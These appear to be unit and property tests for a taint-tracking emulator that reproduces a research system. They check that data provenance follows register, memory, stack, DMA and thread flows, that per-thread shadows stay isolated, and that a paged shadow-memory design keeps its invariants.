                ld r2, [r1]
                movi r1, b
                ld r3, [r1]
                add r4, r2, r3
                movi r1, out
                st [r1], r4
                jmp park
            a: .word 1
            b: .word 2
            out: .word 0
            """
        )
        seed(tracker, proc, prog, "a", 4, SEED)
        seed(tracker, proc, prog, "b", 4, other)
        machine.run(300_000)
        assert set(tracker.prov_of_range(paddrs_of(proc, prog, "out", 4))) == {SEED, other}

    def test_movi_deletes(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                movi r2, 0          ; overwrite with constant
                movi r1, dst
                st [r1], r2
                jmp park
            src: .word 5
            dst: .word 5
            """
        )
        seed(tracker, proc, prog, "src", 4)
        seed(tracker, proc, prog, "dst", 4)
        machine.run(300_000)
        # The untainted store must CLEAR dst's old taint.
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == ()

    def test_xor_self_zeroing_deletes(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                xor r2, r2, r2
                movi r1, dst
                st [r1], r2
                jmp park
            src: .word 5
            dst: .word 0
            """
        )
        seed(tracker, proc, prog, "src", 4)
        seed(tracker, proc, prog, "dst", 4)
        machine.run(300_000)
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == ()

    def test_xor_with_key_keeps_taint(self):
        # Decoding a payload with XOR must not launder taint.
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                xori r3, r2, 0x5a
                movi r1, dst
                st [r1], r3
                jmp park
            src: .word 0xff
            dst: .word 0
            """
        )
        seed(tracker, proc, prog, "src", 4)
        machine.run(300_000)
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == (SEED,)

    def test_push_pop_flows_through_stack(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                push r2
                pop r3
                movi r1, dst
                st [r1], r3
                jmp park
            src: .word 1
            dst: .word 0
            """
        )
        seed(tracker, proc, prog, "src", 4)
        machine.run(300_000)
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == (SEED,)

    def test_ldb_takes_single_byte_prov(self):
        other = Tag(TagType.FILE, 9)
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ldb r2, [r1+1]
                movi r1, dst
                stb [r1], r2
                jmp park
            src: .word 0x01020304
            dst: .byte 0
            """
        )
        # Byte 0 gets SEED, byte 1 gets `other`: LDB [src+1] must carry only `other`.
        (p0, p1, p2, p3) = paddrs_of(proc, prog, "src", 4)
        tracker.pipeline.taint([p0], SEED)
        tracker.pipeline.taint([p1], other)
        machine.run(300_000)
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 1)) == (other,)


class TestIndirectFlows:
    """The paper's Figure 1 (address deps) and Figure 2 (control deps)."""

    FIG1_LOOKUP_COPY = """
    ; str2[j] = lookuptable[str1[j]]  -- identity table, 4 bytes
    start:
        ; build lookuptable[i] = i
        movi r1, table
        movi r2, 0
    build:
        stb [r1], r2
        addi r1, r1, 1
        addi r2, r2, 1
        cmpi r2, 256
        jnz build
        ; translate through the table
        movi r1, str1
        movi r2, str2
        movi r3, 4
    xlate:
        ldb r4, [r1]          ; tainted index
        movi r5, table
        add r5, r5, r4        ; address depends on tainted data
        ldb r6, [r5]          ; value itself is untainted table content
        stb [r2], r6
        addi r1, r1, 1
        addi r2, r2, 1
        subi r3, r3, 1
        cmpi r3, 0
        jnz xlate
        jmp park
    str1: .ascii "ABCD"
    str2: .space 4
    table: .space 256
    """

    def test_fig1_undertainting_without_address_deps(self):
        machine, tracker, proc, prog = launch(self.FIG1_LOOKUP_COPY)
        seed(tracker, proc, prog, "str1", 4)
        machine.run(500_000)
        # str2 carries the same information as str1 but is untainted.
        assert tracker.prov_of_range(paddrs_of(proc, prog, "str2", 4)) == ()

    def test_fig1_tracked_with_address_deps(self):
        machine, tracker, proc, prog = launch(
            self.FIG1_LOOKUP_COPY,
            policy=TaintPolicy(track_address_deps=True, process_tags_on_access=False),
        )
        seed(tracker, proc, prog, "str1", 4)
        machine.run(500_000)
        for paddr in paddrs_of(proc, prog, "str2", 4):
            assert SEED in tracker.prov_at(paddr)

    FIG2_BIT_COPY = """
    ; untaintedoutput |= bit if (bit & taintedinput) -- pure control flow
    start:
        movi r1, src
        ldb r2, [r1]          ; tainted input
        movi r3, 0            ; output accumulator
        movi r4, 1            ; bit
    bitloop:
        and r5, r4, r2
        cmpi r5, 0
        jz skip
        or r3, r3, r4
    skip:
        shli r4, r4, 1
        cmpi r4, 256
        jnz bitloop
        movi r1, dst
        stb [r1], r3
        jmp park
    src: .byte 0xa5
    dst: .byte 0
    """

    def test_fig2_undertainting_without_control_deps(self):
        machine, tracker, proc, prog = launch(self.FIG2_BIT_COPY)
        seed(tracker, proc, prog, "src", 1)
        machine.run(500_000)
        # The copy is exact, yet the output is untainted: laundered.
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 1)) == ()

    def test_fig2_tracked_with_control_deps(self):
        machine, tracker, proc, prog = launch(
            self.FIG2_BIT_COPY,
            policy=TaintPolicy(track_control_deps=True, process_tags_on_access=False),
        )
        seed(tracker, proc, prog, "src", 1)
        machine.run(500_000)
        assert SEED in tracker.prov_of_range(paddrs_of(proc, prog, "dst", 1))

    def test_control_deps_overtaint_unrelated_writes(self):
        # The cost of control-dep tracking: constants written under a
        # tainted branch get tainted even when they carry no input data.
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ldb r2, [r1]
                cmpi r2, 0
                jz over
            over:
                movi r3, 42          ; pure constant
                movi r1, dst
                stb [r1], r3
                jmp park
            src: .byte 1
            dst: .byte 0
            """,
            policy=TaintPolicy(track_control_deps=True, process_tags_on_access=False),
        )
        seed(tracker, proc, prog, "src", 1)
        machine.run(300_000)
        assert SEED in tracker.prov_of_range(paddrs_of(proc, prog, "dst", 1))


class TestKernelMediatedFlows:
    def test_recv_carries_taint_from_dma(self):
        """Whole-system property: packet bytes stay tainted through the
        kernel's DMA ring and the recv() copy into user space."""
        machine = Machine(MachineConfig())
        tracker = TaintTracker(policy=TaintPolicy(process_tags_on_access=False))
        machine.plugins.register(tracker)

        # Seed the DMA bytes at packet-receive time, like FAROS does.
        class Seeder:
            def __init__(self, tracker):
                self.tracker = tracker

            def on_packet_receive(self, machine, packet, paddrs):
                self.tracker.pipeline.taint(paddrs, SEED)

        from repro.emulator.plugins import Plugin

        seeder = Plugin()
        seeder.on_packet_receive = lambda m, p, a: tracker.pipeline.taint(a, SEED)
        machine.plugins.register(seeder)

        prog = register_asm(
            machine,
            "rx.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, ip
                movi r3, 4444
                movi r0, SYS_CONNECT
                syscall
                mov r1, r7
                movi r2, buf
                movi r3, 4
                movi r0, SYS_RECV
                syscall
                jmp park
            ip: .asciz "9.9.9.9"
            buf: .space 4
            """,
            PARK,
        )
        proc = machine.kernel.spawn("rx.exe")
        machine.schedule(
            2000,
            PacketEvent(Packet("9.9.9.9", 4444, machine.devices.nic.ip, 49152, b"EVIL")),
        )
        machine.run(300_000)
        buf_paddrs = proc.aspace.translate_range(
            prog.label("buf"), 4, AccessKind.READ
        )
        for paddr in buf_paddrs:
            assert SEED in tracker.prov_at(paddr)

    def test_phys_write_clears_stale_taint(self):
        machine, tracker, proc, prog = launch("start: jmp park\nbuf: .space 4")
        paddrs = paddrs_of(proc, prog, "buf", 4)
        tracker.pipeline.taint(paddrs, SEED)
        machine.phys_write(paddrs, b"\x00" * 4, source="keyboard")
        assert tracker.prov_of_range(paddrs) == ()

    def test_freed_frames_drop_shadow(self):
        machine, tracker, proc, prog = launch("start: jmp park\nbuf: .space 4")
        paddrs = paddrs_of(proc, prog, "buf", 4)
        tracker.pipeline.taint(paddrs, SEED)
        machine.kernel.terminate_process(proc, 0)
        assert tracker.prov_of_range(paddrs) == ()


class TestProcessTagEnrichment:
    def test_accessing_process_appended_to_chronology(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                movi r1, dst
                st [r1], r2
                jmp park
            src: .word 1
            dst: .word 0
            """,
            policy=TaintPolicy(),  # process tags ON
        )
        seed(tracker, proc, prog, "src", 4)
        machine.run(300_000)
        proc_tag = tracker.tags.process_tag(proc.cr3)
        src_prov = tracker.prov_of_range(paddrs_of(proc, prog, "src", 4))
        dst_prov = tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4))
        # Chronology: origin tag first, then the process that touched it.
        assert src_prov[0] == SEED and proc_tag in src_prov
        assert dst_prov[0] == SEED and proc_tag in dst_prov

    def test_untainted_bytes_get_no_process_tags(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, dst
                movi r2, 7
                st [r1], r2
                jmp park
            dst: .word 0
            """,
            policy=TaintPolicy(),
        )
        machine.run(300_000)
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == ()

    def test_kernel_copy_appends_actor_tag(self):
        machine, tracker, proc, prog = launch(
            "start: jmp park\nsrc: .word 1\ndst: .word 0",
            policy=TaintPolicy(),
        )
        seed(tracker, proc, prog, "src", 4)
        src = paddrs_of(proc, prog, "src", 4)
        dst = paddrs_of(proc, prog, "dst", 4)
        machine.phys_copy(dst, src, actor=proc)
        prov = tracker.prov_of_range(dst)
        assert prov[0] == SEED
        assert tracker.tags.process_tag(proc.cr3) in prov


class TestLoadListeners:
    def test_listener_sees_insn_and_read_prov(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                jmp park
            src: .word 1
            """
        )
        seed(tracker, proc, prog, "src", 4)
        observations = []
        tracker.add_load_listener(lambda m, obs: observations.append(obs))
        machine.run(300_000)
        loads = [o for o in observations if o.reads and o.reads[0][1]]
        assert loads, "no tainted load observed"
        (access, prov) = loads[0].reads[0]
        assert prov == (SEED,)
        assert loads[0].fx.insn.rd is Reg.R2

    def test_listener_sees_tainted_instruction_bytes(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                jmp park
            src: .word 1
            """
        )
        # Taint the LD instruction's own bytes (offset 8, second insn).
        insn_paddrs = proc.aspace.translate_range(
            prog.base + 8, 8, AccessKind.READ
        )
        tracker.pipeline.taint(insn_paddrs, SEED)
        seen = []
        tracker.add_load_listener(lambda m, obs: seen.append(obs.insn_prov))
        machine.run(300_000)
        assert any(SEED in prov for prov in seen)


class TestContextSwitchIsolation:
    """Register shadows are per-thread: a context switch must never leak
    one thread's tainted registers into another (regression tests for the
    fast-path rewrite, which rebuilt the bank bookkeeping)."""

    SPIN = """
    spin:
        addi r3, r3, 1
        cmpi r3, 3000
        jnz spin
    """

    def test_tainted_register_does_not_leak_across_processes(self):
        # Two processes round-robin on 100-instruction slices.  A holds a
        # tainted value in r2 across many context switches; B stores its
        # own (never-written) r2.  B's store must stay clean.
        machine = Machine(MachineConfig())
        tracker = TaintTracker(policy=TaintPolicy(process_tags_on_access=False))
        machine.plugins.register(tracker)
        prog_a = register_asm(
            machine,
            "tainty.exe",
            "start:\n    movi r1, src\n    ld r2, [r1]\n" + self.SPIN + "    jmp park\nsrc: .word 0xabcd",
            PARK,
        )
        prog_b = register_asm(
            machine,
            "clean.exe",
            "start:\n    movi r3, 0\n" + self.SPIN + "    movi r1, dst\n    st [r1], r2\n    jmp park\ndst: .word 0",
            PARK,
        )
        proc_a = machine.kernel.spawn("tainty.exe")
        proc_b = machine.kernel.spawn("clean.exe")
        tracker.pipeline.taint(paddrs_of(proc_a, prog_a, "src", 4), SEED)
        machine.run(300_000)
        assert tracker.prov_of_range(paddrs_of(proc_b, prog_b, "dst", 4)) == ()
        bank_a = tracker.banks.for_thread(proc_a.main_thread.tid)
        bank_b = tracker.banks.for_thread(proc_b.main_thread.tid)
        assert SEED in bank_a.get(Reg.R2)
        assert bank_b.get(Reg.R2) == ()

    def test_remote_thread_starts_with_clean_registers(self):
        # Two threads in ONE process: main taints r6, then injects a
        # remote thread into itself (pid 100 is the first process).  The
        # new thread stores its own r6 -- a fresh bank, so no taint.
        machine = Machine(MachineConfig())
        tracker = TaintTracker(policy=TaintPolicy(process_tags_on_access=False))
        machine.plugins.register(tracker)
        prog = register_asm(
            machine,
            "self.exe",
            """
            start:
                movi r1, src
                ld r6, [r1]
                movi r1, 100
                movi r0, SYS_OPEN_PROCESS
                syscall
                mov r1, r0
                movi r2, routine
                movi r3, 0
                movi r0, SYS_CREATE_REMOTE_THREAD
                syscall
                jmp park
            routine:
                movi r1, dst
                st [r1], r6
                jmp park
            src: .word 7
            dst: .word 0
            """,
            PARK,
        )
        proc = machine.kernel.spawn("self.exe")
        tracker.pipeline.taint(paddrs_of(proc, prog, "src", 4), SEED)
        machine.run(300_000)
        assert len(proc.threads) == 2
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == ()
        main_tid, remote_tid = (t.tid for t in proc.threads)
        assert SEED in tracker.banks.for_thread(main_tid).get(Reg.R6)
        assert tracker.banks.for_thread(remote_tid).get(Reg.R6) == ()

    def test_dropped_thread_bank_does_not_resurrect(self):
        # A process exits with tainted registers; a later process whose
        # thread happens to reuse state must start from a clean bank.
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            src: .word 1
            """
        )
        tid = proc.main_thread.tid
        seed(tracker, proc, prog, "src", 4)
        machine.run(300_000)
        assert tracker.banks.for_thread(tid).get(Reg.R2) == ()


class TestStats:
    def test_counters_advance(self):
        machine, tracker, proc, prog = launch("start: movi r1, 0\njmp park")
        machine.run(100_000)
        assert tracker.stats.instructions > 0
        assert tracker.stats.external_writes >= 1  # image load

    def test_untainted_run_is_all_fast_path(self):
        # With no taint anywhere the tracker withdraws from
        # per-instruction effects entirely: every retirement is bulk-
        # counted as fast, and the slow path never runs.
        machine, tracker, proc, prog = launch(
            "start:\n    movi r3, 0\nspin:\n    addi r3, r3, 1\n    cmpi r3, 500\n    jnz spin\n    jmp park"
        )
        machine.run(100_000)
        stats = tracker.stats
        assert stats.fast_retirements > 0
        assert stats.slow_retirements == 0
        assert stats.instructions == stats.fast_retirements + stats.slow_retirements

    def test_mixed_run_uses_both_paths(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r3, 0
            spin:
                addi r3, r3, 1
                cmpi r3, 500
                jnz spin
                movi r1, src
                ld r2, [r1]
                movi r1, dst
                st [r1], r2
                jmp park
            src: .word 5
            dst: .word 0
            """
        )
        # Phase 1: nothing tainted -- the spin loop retires uninstrumented.
        machine.run(1_000)
        assert tracker.stats.fast_retirements > 0
        # Phase 2: taint arrives; subsequent slices are instrumented and
        # the copy through src goes down the slow path.
        seed(tracker, proc, prog, "src", 4)
        machine.run(300_000)
        stats = tracker.stats
        assert stats.slow_retirements > 0
        assert stats.instructions == stats.fast_retirements + stats.slow_retirements
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == (SEED,)

    def test_taint_arrival_mid_run_rearms_instrumentation(self):
        # The machine picks fast/instrumented stepping per slice and
        # re-evaluates after syscalls; taint landing via an external
        # event mid-run must not be missed by a stale fast-path choice.
        machine = Machine(MachineConfig())
        tracker = TaintTracker(policy=TaintPolicy(process_tags_on_access=False))
        machine.plugins.register(tracker)

        from repro.emulator.plugins import Plugin

        seeder = Plugin()
        seeder.on_packet_receive = lambda m, p, a: tracker.pipeline.taint(a, SEED)
        machine.plugins.register(seeder)
        prog = register_asm(
            machine,
            "rx.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, ip
                movi r3, 4444
                movi r0, SYS_CONNECT
                syscall
                mov r1, r7
                movi r2, buf
                movi r3, 4
                movi r0, SYS_RECV
                syscall
                movi r1, buf
                ld r2, [r1]
                movi r1, dst
                st [r1], r2
                jmp park
            ip: .asciz "9.9.9.9"
            buf: .space 4
            dst: .space 4
            """,
            PARK,
        )
        proc = machine.kernel.spawn("rx.exe")
        machine.schedule(
            2000,
            PacketEvent(Packet("9.9.9.9", 4444, machine.devices.nic.ip, 49152, b"EVIL")),
        )
        machine.run(300_000)
        dst = proc.aspace.translate_range(prog.label("dst"), 4, AccessKind.READ)
        for paddr in dst:
            assert SEED in tracker.prov_at(paddr)
        stats = tracker.stats
        assert stats.fast_retirements > 0 and stats.slow_retirements > 0
        assert stats.instructions == stats.fast_retirements + stats.slow_retirements
