"""Unit tests for shadow memory and per-thread register banks."""

from repro.isa.registers import Reg
from repro.taint.shadow import ShadowBank, ShadowMemory, ShadowRegisters
from repro.taint.tags import Tag, TagType

N = Tag(TagType.NETFLOW, 0)
P = Tag(TagType.PROCESS, 1)


class TestShadowMemory:
    def test_default_empty(self):
        assert ShadowMemory().get(0x1000) == ()

    def test_set_get(self):
        shadow = ShadowMemory()
        shadow.set(0x10, (N,))
        assert shadow.get(0x10) == (N,)
        assert shadow.get(0x11) == ()

    def test_set_empty_removes_entry(self):
        shadow = ShadowMemory()
        shadow.set(0x10, (N,))
        shadow.set(0x10, ())
        assert shadow.tainted_bytes == 0

    def test_get_range_unions(self):
        shadow = ShadowMemory()
        shadow.set(0x10, (N,))
        shadow.set(0x12, (P,))
        assert set(shadow.get_range(range(0x10, 0x14))) == {N, P}

    def test_set_range(self):
        shadow = ShadowMemory()
        shadow.set_range(range(4), (N,))
        assert shadow.tainted_bytes == 4

    def test_set_range_empty_clears(self):
        shadow = ShadowMemory()
        shadow.set_range(range(4), (N,))
        shadow.set_range(range(4), ())
        assert shadow.tainted_bytes == 0

    def test_clear_range(self):
        shadow = ShadowMemory()
        shadow.set_range(range(8), (N,))
        shadow.clear_range(range(2, 6))
        assert shadow.tainted_bytes == 4

    def test_tainted_bytes_counts_distinct_addresses(self):
        shadow = ShadowMemory()
        shadow.set(1, (N,))
        shadow.set(1, (P,))
        assert shadow.tainted_bytes == 1


class TestShadowRegisters:
    def test_default_untainted(self):
        regs = ShadowRegisters()
        assert regs.get(Reg.R0) == () and regs.flags == ()

    def test_set_get(self):
        regs = ShadowRegisters()
        regs.set(Reg.R3, (N,))
        assert regs.get(Reg.R3) == (N,)
        assert regs.get(Reg.R4) == ()


class TestShadowBank:
    def test_banks_are_per_thread(self):
        bank = ShadowBank()
        bank.for_thread(1).set(Reg.R1, (N,))
        assert bank.for_thread(2).get(Reg.R1) == ()
        assert bank.for_thread(1).get(Reg.R1) == (N,)

    def test_drop_thread(self):
        bank = ShadowBank()
        bank.for_thread(1).set(Reg.R1, (N,))
        bank.drop_thread(1)
        assert bank.for_thread(1).get(Reg.R1) == ()

    def test_drop_unknown_thread_is_noop(self):
        ShadowBank().drop_thread(99)
