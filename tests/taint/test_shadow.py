"""Unit tests for page-organised shadow memory and register banks.

Besides the dict-form unit contracts, this file holds the Hypothesis
property suites for the two-representation design:

* **flag-cache invariant** -- after any interleaving of
  set/clear/range/bulk/promote/demote ops, every page's summary word
  equals the OR of its bytes' tag classes (and stays equal on the
  cached re-probe);
* **promote/demote round-trips** -- forcing pages across the
  array/dict boundary never changes per-byte provenance, byte counts,
  or summaries.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.isa.registers import Reg
from repro.taint.intern import ProvInterner
from repro.taint.shadow import (
    SHADOW_PAGE_SHIFT,
    SHADOW_PAGE_SIZE,
    ShadowBank,
    ShadowMemory,
    ShadowRegisters,
    prov_class_mask,
)
from repro.taint.tags import Tag, TagType

N = Tag(TagType.NETFLOW, 0)
P = Tag(TagType.PROCESS, 1)
E = Tag(TagType.EXPORT_TABLE, 2)
F = Tag(TagType.FILE, 3)


class TestShadowMemory:
    def test_default_empty(self):
        assert ShadowMemory().get(0x1000) == ()

    def test_set_get(self):
        shadow = ShadowMemory()
        shadow.set(0x10, (N,))
        assert shadow.get(0x10) == (N,)
        assert shadow.get(0x11) == ()

    def test_set_empty_removes_entry(self):
        shadow = ShadowMemory()
        shadow.set(0x10, (N,))
        shadow.set(0x10, ())
        assert shadow.tainted_bytes == 0

    def test_get_range_unions(self):
        shadow = ShadowMemory()
        shadow.set(0x10, (N,))
        shadow.set(0x12, (P,))
        assert set(shadow.get_range(0x10, 4)) == {N, P}

    def test_get_bytes_unions_scattered_addresses(self):
        shadow = ShadowMemory()
        shadow.set(0x10, (N,))
        shadow.set(0x9010, (P,))
        assert set(shadow.get_bytes((0x10, 0x9010))) == {N, P}

    def test_set_range(self):
        shadow = ShadowMemory()
        shadow.set_range(0, 4, (N,))
        assert shadow.tainted_bytes == 4

    def test_set_range_empty_clears(self):
        shadow = ShadowMemory()
        shadow.set_range(0, 4, (N,))
        shadow.set_range(0, 4, ())
        assert shadow.tainted_bytes == 0

    def test_clear_range(self):
        shadow = ShadowMemory()
        shadow.set_range(0, 8, (N,))
        shadow.clear_range(2, 4)
        assert shadow.tainted_bytes == 4

    def test_tainted_bytes_counts_distinct_addresses(self):
        shadow = ShadowMemory()
        shadow.set(1, (N,))
        shadow.set(1, (P,))
        assert shadow.tainted_bytes == 1

    def test_items_yields_every_tainted_byte(self):
        shadow = ShadowMemory()
        shadow.set(3, (N,))
        shadow.set(SHADOW_PAGE_SIZE + 7, (P,))
        assert dict(shadow.items()) == {3: (N,), SHADOW_PAGE_SIZE + 7: (P,)}

    def test_snapshot_is_flat_copy(self):
        shadow = ShadowMemory()
        shadow.set_range(10, 3, (N,))
        snap = shadow.snapshot()
        shadow.clear_range(10, 3)
        assert snap == {10: (N,), 11: (N,), 12: (N,)}


class TestPageOrganisation:
    def test_clean_memory_has_no_dirty_pages(self):
        assert ShadowMemory().dirty_pages() == []

    def test_dirty_page_index_tracks_population(self):
        shadow = ShadowMemory()
        shadow.set(5, (N,))
        shadow.set(3 * SHADOW_PAGE_SIZE + 1, (P,))
        assert shadow.dirty_pages() == [0, 3]

    def test_page_dropped_when_last_byte_clears(self):
        shadow = ShadowMemory()
        shadow.set(5, (N,))
        shadow.set(5, ())
        assert shadow.dirty_pages() == []

    def test_pages_clean_fast_exit(self):
        shadow = ShadowMemory()
        assert shadow.pages_clean((0, 1, 2, 3))
        shadow.set(SHADOW_PAGE_SIZE + 9, (N,))
        # Same page as the tainted byte: conservatively dirty.
        assert not shadow.pages_clean((SHADOW_PAGE_SIZE,))
        # Different page: still clean.
        assert shadow.pages_clean((0, 1, 2, 3))

    def test_range_ops_span_page_boundaries(self):
        shadow = ShadowMemory()
        start = SHADOW_PAGE_SIZE - 2
        shadow.set_range(start, 4, (N,))
        assert shadow.tainted_bytes == 4
        assert shadow.dirty_pages() == [0, 1]
        assert shadow.get_range(start, 4) == (N,)
        shadow.clear_range(start, 4)
        assert shadow.tainted_bytes == 0 and shadow.dirty_pages() == []

    def test_interned_unions_share_identity(self):
        interner = ProvInterner()
        shadow = ShadowMemory(interner)
        shadow.set(0, interner.seed(N))
        shadow.set(1, interner.seed(P))
        first = shadow.get_range(0, 2)
        second = shadow.get_range(0, 2)
        assert first == (N, P)
        assert first is second  # memoised union, no fresh allocation


ALL_TAGS = (N, P, E, F)
MODES = ("auto", "array", "dict", "mixed")

fc_addresses = st.integers(0, 2 * SHADOW_PAGE_SIZE - 1)
fc_provs = st.lists(st.sampled_from(ALL_TAGS), max_size=3, unique=True).map(tuple)
fc_scatter = st.lists(fc_addresses, min_size=1, max_size=6).map(tuple)
fc_pages = st.integers(0, 2)

#: Any interleaving of the shadow API, *including* forced representation
#: transitions, over a three-page physical window.
flag_ops = st.lists(
    st.one_of(
        st.tuples(st.just("set"), fc_addresses, fc_provs),
        st.tuples(st.just("set_range"), fc_addresses, st.integers(0, 64), fc_provs),
        st.tuples(st.just("clear_range"), fc_addresses, st.integers(0, 64)),
        st.tuples(
            st.just("append_range"),
            fc_addresses,
            st.integers(1, 64),
            st.sampled_from(ALL_TAGS),
        ),
        st.tuples(
            st.just("copy_range"),
            fc_addresses,
            fc_addresses,
            st.integers(1, 48),
            st.sampled_from(ALL_TAGS + (None,)),
        ),
        st.tuples(st.just("set_bytes"), fc_scatter, fc_provs),
        st.tuples(st.just("clear_bytes"), fc_scatter),
        st.tuples(st.just("promote_page"), fc_pages),
        st.tuples(st.just("demote_page"), fc_pages),
    ),
    max_size=15,
)


def summary_oracle(shadow, number):
    """OR of the page's byte tag classes, straight off the flat snapshot."""
    mask = 0
    for paddr, prov in shadow.snapshot().items():
        if paddr >> SHADOW_PAGE_SHIFT == number:
            mask |= prov_class_mask(prov)
    return mask


def run_flag_ops(shadow, ops):
    for op in ops:
        getattr(shadow, op[0])(*op[1:])


class TestFlagCacheInvariant:
    @given(ops=flag_ops, mode=st.sampled_from(MODES))
    @settings(max_examples=60, deadline=None)
    def test_summary_equals_or_of_byte_classes(self, ops, mode):
        shadow = ShadowMemory(ProvInterner(), mode=mode)
        for op in ops:
            getattr(shadow, op[0])(*op[1:])
            for number in range(3):
                expected = summary_oracle(shadow, number)
                assert shadow.page_summary(number) == expected
                # The cached re-probe must agree with the recompute.
                assert shadow.page_summary(number) == expected

    @pytest.mark.slow
    @given(ops=flag_ops, mode=st.sampled_from(MODES))
    @settings(max_examples=400, deadline=None)
    def test_summary_invariant_exhaustive(self, ops, mode):
        self.test_summary_equals_or_of_byte_classes.hypothesis.inner_test(
            self, ops, mode
        )


class TestPromoteDemoteRoundTrip:
    @given(ops=flag_ops, mode=st.sampled_from(MODES))
    @settings(max_examples=60, deadline=None)
    def test_round_trip_preserves_exact_provenance(self, ops, mode):
        shadow = ShadowMemory(ProvInterner(), mode=mode)
        run_flag_ops(shadow, ops)
        before = shadow.snapshot()
        tainted = shadow.tainted_bytes
        for number in shadow.dirty_pages():
            shadow.demote_page(number)
        assert shadow.snapshot() == before
        assert shadow.tainted_bytes == tainted
        for number in shadow.dirty_pages():
            shadow.promote_page(number)  # may decline (too many codes): fine
        assert shadow.snapshot() == before
        assert shadow.tainted_bytes == tainted
        for number in range(3):
            assert shadow.page_summary(number) == summary_oracle(shadow, number)
        for paddr, prov in before.items():
            assert shadow.get(paddr) == prov

    @pytest.mark.slow
    @given(ops=flag_ops, mode=st.sampled_from(MODES))
    @settings(max_examples=400, deadline=None)
    def test_round_trip_exhaustive(self, ops, mode):
        self.test_round_trip_preserves_exact_provenance.hypothesis.inner_test(
            self, ops, mode
        )


class TestShadowRegisters:
    def test_default_untainted(self):
        regs = ShadowRegisters()
        assert regs.get(Reg.R0) == () and regs.flags == ()
        assert regs.tainted == 0

    def test_set_get(self):
        regs = ShadowRegisters()
        regs.set(Reg.R3, (N,))
        assert regs.get(Reg.R3) == (N,)
        assert regs.get(Reg.R4) == ()

    def test_tainted_count_tracks_transitions(self):
        regs = ShadowRegisters()
        regs.set(Reg.R1, (N,))
        regs.set(Reg.R2, (P,))
        assert regs.tainted == 2
        regs.set(Reg.R1, (P,))  # overwrite tainted with tainted
        assert regs.tainted == 2
        regs.set(Reg.R1, ())
        assert regs.tainted == 1
        regs.set(Reg.R1, ())  # clearing a clean register is a no-op
        assert regs.tainted == 1


class TestShadowBank:
    def test_banks_are_per_thread(self):
        bank = ShadowBank()
        bank.for_thread(1).set(Reg.R1, (N,))
        assert bank.for_thread(2).get(Reg.R1) == ()
        assert bank.for_thread(1).get(Reg.R1) == (N,)

    def test_drop_thread(self):
        bank = ShadowBank()
        bank.for_thread(1).set(Reg.R1, (N,))
        bank.drop_thread(1)
        assert bank.for_thread(1).get(Reg.R1) == ()

    def test_drop_unknown_thread_is_noop(self):
        ShadowBank().drop_thread(99)

    def test_any_tainted_sees_registers_and_flags(self):
        bank = ShadowBank()
        assert not bank.any_tainted()
        bank.for_thread(1).set(Reg.R1, (N,))
        assert bank.any_tainted()
        bank.for_thread(1).set(Reg.R1, ())
        assert not bank.any_tainted()
        bank.for_thread(2).flags = (P,)
        assert bank.any_tainted()
