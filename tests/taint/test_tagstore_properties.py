"""Property tests for TagStore interning and description consistency."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.taint.tags import TagStore, TagType

ips = st.from_regex(r"\A\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\Z")
ports = st.integers(0, 65535)


class TestInterningProperties:
    @given(src_ip=ips, src_port=ports, dst_ip=ips, dst_port=ports)
    @settings(max_examples=50, deadline=None)
    def test_netflow_interning_stable(self, src_ip, src_port, dst_ip, dst_port):
        store = TagStore()
        first = store.netflow_tag(src_ip, src_port, dst_ip, dst_port)
        second = store.netflow_tag(src_ip, src_port, dst_ip, dst_port)
        assert first == second
        payload = store.netflow_payload(first)
        assert (payload.src_ip, payload.src_port) == (src_ip, src_port)
        assert (payload.dst_ip, payload.dst_port) == (dst_ip, dst_port)

    @given(flows=st.lists(st.tuples(ips, ports, ips, ports), min_size=1, max_size=20))
    @settings(max_examples=25, deadline=None)
    def test_distinct_flows_get_distinct_tags(self, flows):
        store = TagStore()
        tags = [store.netflow_tag(*flow) for flow in flows]
        assert len(set(tags)) == len(set(flows))

    @given(cr3s=st.lists(st.integers(0, 2**32 - 1), min_size=1, max_size=30))
    @settings(max_examples=25, deadline=None)
    def test_process_roundtrip(self, cr3s):
        store = TagStore()
        for cr3 in cr3s:
            tag = store.process_tag(cr3)
            assert store.process_cr3(tag) == cr3

    @given(
        names=st.lists(
            st.text(alphabet=st.characters(min_codepoint=33, max_codepoint=126),
                    min_size=1, max_size=12),
            min_size=1,
            max_size=15,
            unique=True,
        )
    )
    @settings(max_examples=25, deadline=None)
    def test_export_function_roundtrip(self, names):
        store = TagStore()
        for name in names:
            tag = store.export_table_tag(name)
            assert store.export_function(tag) == name
            assert tag.index != 0  # never collides with the anonymous tag

    @given(
        name=st.text(min_size=1, max_size=20),
